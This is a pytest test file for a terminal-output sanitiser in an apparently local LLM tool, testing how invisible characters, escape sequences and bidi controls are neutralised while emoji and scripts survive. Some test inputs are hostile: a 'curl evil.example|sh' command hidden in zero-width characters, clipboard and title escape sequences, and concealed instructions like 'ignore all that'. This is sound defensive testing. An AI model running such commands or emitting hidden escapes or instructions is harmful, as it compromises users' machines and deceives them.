"""The door for texts that we did not write, and that nothing which shows a text goes round it."""

from __future__ import annotations

import ast
import io
import json
import re
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import localspec
from localspec.cli.output import write
from localspec.core.safe_text import (
    SIGN,
    escape_json,
    is_safe,
    is_safe_name,
    safe_line,
    safe_text,
    without_harmful,
)
from localspec.tools.values import quoted

ROOT = Path(localspec.__file__).resolve().parent.parent
ANYTHING = st.text(st.characters(exclude_categories=[]))

OBEYED = "\x1b]0;title\x07\x1b]52;c;aGk=\x07\x9b2J\x08\x7f"


def obeyed(text: str) -> set[str]:
    """Characters that a terminal obeys, but for line feed and tab."""
    return {
        c
        for c in text
        if (unicodedata.category(c) in {"Cc", "Cs"} and c not in "\n\t")
        or 0x202A <= ord(c) <= 0x202E
        or 0x2066 <= ord(c) <= 0x2069
    }


@given(ANYTHING)
def test_nothing_that_a_terminal_obeys_comes_through_the_door(text: str) -> None:
    assert obeyed(safe_text(text)) == set()
    assert is_safe(safe_text(text))
    assert obeyed(safe_line(text)) | ({*safe_line(text)} & {*"\n\t\u2028\u2029"}) == set()
    assert obeyed(escape_json(json.dumps(text, ensure_ascii=False))) == set()


@given(ANYTHING)
def test_json_for_a_terminal_stands_for_the_same_value(text: str) -> None:
    assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text


@pytest.mark.parametrize(
    "bits",
    [
        "\u200b\u200c",
        "\u2062\u2064",
        "\u2060\ufeff",
        "\u200d\u00ad",
        "\u200e\u200f",
        "\u206a\u206b",
        "\u3164\uffa0",
        "\u180b\u180c",
        "\u034f\u061c",
        "\u17b4\u17b5",
        "\U0001d173\U0001bca0",
        "\u200b\U000e0163",
        "\ufe00\u2060",
    ],
)
def test_bits_without_width_hide_no_text(bits: str) -> None:
    text = f"fine{bits * 8}."
    assert safe_text(text) == f"fine{bits}{SIGN * 14}."
    assert not is_safe(text)
    assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text
    assert safe_text(f"fine{bits}.") == f"fine{bits}."  # spelling, as in Persian and Thai


@pytest.mark.parametrize(
    "hidden",
    [
        "".join(f"\u200b{chr(0xE0100 + b)}" for b in b"curl evil.example|sh"),
        "".join("\ufe00" + "\u200b\u2060"[b >> i & 1] for b in b"curl" for i in range(8)),
        "".join("\ufe0f" + "\u200e\u200f"[b % 2] + "\u200c\u200d"[b >> 1 & 1] for b in b"curl") * 4,
        "".join("\u200d\u200c\ufe0f"[b % 3] + chr(0xE0100 + b) for b in b"curl"),
    ],
)
def test_characters_that_nobody_sees_hide_no_text_whatever_their_kinds(hidden: str) -> None:
    text = f"A{hidden}B"
    assert not is_safe(text)
    assert safe_text(text).count(SIGN) >= len(hidden) - 3
    assert quoted(text, 1000).count(SIGN) >= len(hidden) - 3
    assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text


@pytest.mark.parametrize(
    "text",
    [
        "\U0001f3f3\ufe0f\u200d\U0001f308",  # flag, VS16, joiner, rainbow
        "\u2764\ufe0f\u200d\U0001f525 \U0001f441\ufe0f\u200d\U0001f5e8\ufe0f",
        "\U0001f9d1\U0001f3fd\u200d\u2764\ufe0f\u200d\U0001f48b\u200d\U0001f9d1\U0001f3fb",
        "\u2764\ufe0f\u200f\u200e \u2764\ufe0f\u200c\u200f\u05d0 \u260e\ufe0e\u061c\u200f\u0627",
        "1\ufe0f\u20e3 \U0001f1e9\U0001f1ea",  # a keycap and the flag of a country
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian
        "\u0915\u094d\u200d\u0937 \u0d28\u0d4d\u200d \u0dc1\u0dca\u200d\u0dbb\u0dd3",  # Indic
        "\u1820\u180b\u1828\u180e\u1820",  # Mongolian
        "\u845b\U000e0100\u8fbb\U000e0101",  # Han
    ],
)
def test_emoji_and_scripts_that_need_what_nobody_sees_stay(text: str) -> None:
    assert safe_text(text) == text
    assert is_safe(text)
    assert quoted(text, 1000) == text


@pytest.mark.parametrize("unseen", "\u3164\uffa0\u180b\u034f\u115f\u17b4\u200e\u00ad\U0001d173")
def test_no_name_has_a_character_that_nobody_sees(unseen: str) -> None:
    assert safe_line(f"mo{unseen}del") == f"mo{SIGN}del"
    assert not is_safe_name(f"mo{unseen}del")


def seen(text: str) -> bool:
    return re.search("[\ufe00-\ufe0f\U000e0100-\U000e01ef]{2}", text) is None


@given(st.text(st.characters(categories=["L", "N", "P", "S", "M", "Zs"])).filter(seen))
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_text(text) == text
    assert safe_line(text) == text
    assert is_safe_name(text)


def test_each_character_that_is_made_harmless_is_seen() -> None:
    assert safe_text("a\x1b[1m\u202eb\n\tc\r\n") == f"a{SIGN}[1m{SIGN}b\n\tc\n"
    assert safe_line("a\u200bb\u202ec\nd\te\udc80") == f"a{SIGN}b{SIGN}c d e{SIGN}"
    assert safe_line("👩\u200d👧 \u06cc\u200c\u0647") == "👩\u200d👧 \u06cc\u200c\u0647"


def hidden(text: str) -> str:
    """A text in tags, which no terminal shows."""
    return "".join(chr(0xE0000 + ord(c)) for c in text)


SCOTLAND = f"\U0001f3f4{hidden('gbsct')}\U000e007f"


def test_a_text_that_nobody_sees_is_shown_as_signs_and_not_copied_onward() -> None:
    text = f"fine{hidden('obey me')}."
    assert safe_text(text) == safe_line(text) == f"fine{SIGN * 7}."
    assert without_harmful(text) == "fine."
    assert not is_safe(text)
    assert not is_safe_name(text)
    assert escape_json(json.dumps(text, ensure_ascii=False)).isascii()
    assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text
    picture = "\u2764\ufe0f" + "\U000e0100\ufe01\U000e0155"
    assert safe_text(picture) == safe_line(picture) == f"\u2764\ufe0f{SIGN * 3}"


def test_flags_of_regions_stay_and_hide_nothing_long() -> None:
    text = f"{SCOTLAND}, \u2764\ufe0f, \u845b\U000e0100"
    assert safe_text(text) == safe_line(text) == without_harmful(text) == text
    assert is_safe(text)
    assert is_safe_name(text)
    long = f"\U0001f3f4{hidden('ignore all that')}"
    assert safe_text(long).count(SIGN) == len("ignore all that") - 6


def test_a_flag_whose_pieces_arrive_one_by_one_reaches_the_terminal_whole(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    monkeypatch.setattr(out, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stdout", out)
    for piece in (*SCOTLAND, "!", hidden("a"), "\n"):
        write(piece)
    assert out.buffer.getvalue().decode() == f"{SCOTLAND}!{SIGN}\n"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("x\ufe00\ufe01\ufe02y", f"x\ufe00{SIGN}{SIGN}y"),
        ("x\u200b\u200c\u200by", f"x\u200b\u200c{SIGN}y"),
        ("x\u200b\U000e0163\u200by", f"x\u200b\U000e0163{SIGN}y"),
        ("x\ufe0f\u200f\u200e\u200fy", f"x\ufe0f\u200f\u200e{SIGN}y"),
        ("x\u200b\ufe0f\u200f\u200ey", f"x\u200b\ufe0f{SIGN}{SIGN}y"),
        ("x\ufe0f\u200f\u200by", f"x\ufe0f\u200f{SIGN}y"),
        ("x\u200b\u200c\n\u200b", "x\u200b\u200c\n\u200b"),
    ],
)
def test_what_hides_a_text_is_seen_though_it_arrives_one_by_one(
    monkeypatch: pytest.MonkeyPatch, text: str, shown: str
) -> None:
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    monkeypatch.setattr(out, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stdout", out)
    for piece in (*text, "\n"):
        write(piece)
    assert out.buffer.getvalue().decode() == f"{shown}\n"


SHOWING = {"echo", "secho", "confirm", "prompt", "echo_via_pager", "progressbar"}
_ANSWER = "the answer of a child process, which its parent parses"
DOORS = {
    Path("localspec/cli/output.py"): "the door of the command line",
    Path("localspec/core/kernel/build.py"): "a report for the log of scripts/bootstrap.py",
    Path("localspec/core/processes/bounded_child.py"): _ANSWER,
    Path("localspec/kernels/library.py"): _ANSWER,
    Path("localspec/kernels/proof_report.py"): _ANSWER,
    Path("localspec/kernels/prove.py"): _ANSWER,
    Path("localspec/llama/kernel_speed.py"): _ANSWER,
    Path("localspec/llama/proof.py"): _ANSWER,
    Path("localspec/loading/machine_speed.py"): _ANSWER,
    Path("localspec/loading/own_kernels.py"): "a report, through safe_line",
    Path("localspec/llama/mtmd_library.py"): "progress of compiling, through safe_line",
    Path("localspec/loading/soundness.py"): "a report for scripts/bootstrap.py, which parses it",
    Path("localspec/models/memory/ask_machine.py"): _ANSWER,
    Path("localspec/models/hub/pull_process.py"): _ANSWER,
    Path("localspec/tools/host.py"): _ANSWER,
    Path("tui/in_terminal.py"): "the title of the window and the exit message, through safe_line",
}
SOURCES = sorted(
    p.relative_to(ROOT) for d in ("localspec", "tui") for p in (ROOT / d).rglob("*.py")
)


def ways_out(tree: ast.Module) -> list[str]:
    """Calls and names that put a text on a terminal."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            if node.func.id == "print":
                found.append(f"print, line {node.lineno}")
        elif isinstance(node, ast.Attribute):
            base = ast.unparse(node.value)
            shows = base == "click" and node.attr in SHOWING
            writes = node.attr in {"write", "writelines"} and any(
                name in base for name in ("sys.stdout", "sys.stderr", "sys.__std", "terminal")
            )
            if shows or writes:
                found.append(f"{base}.{node.attr}, line {node.lineno}")
    return found


@pytest.mark.parametrize("source", SOURCES, ids=str)
def test_no_module_shows_a_text_by_itself(source: Path) -> None:
    found = ways_out(ast.parse((ROOT / source).read_text(encoding="utf-8")))
    assert source in DOORS or found == [], f"{source}: {found}; use localspec.cli.output"


def test_what_looks_for_other_ways_out_finds_them() -> None:
    found = ways_out(
        ast.parse("print(x)\nclick.echo(x, err=True)\nsys.stderr.write(x)\nclick.confirm(x)")
    )
    assert len(found) == 4


def test_what_the_interface_draws_is_looked_at_last_of_all() -> None:
    from rich.segment import Segment
    from textual.color import Color

    from tui.render.text import SafeLines

    black = Color(0, 0, 0)
    poisoned = [Segment("a" + OBEYED + "b\u202ec"), Segment("plain")]
    drawn = SafeLines().apply(poisoned, black)
    assert obeyed("".join(segment.text for segment in drawn)) == set()
    whole = [Segment("שלום 👩\u200d👧")]
    assert SafeLines().apply(whole, black) is whole
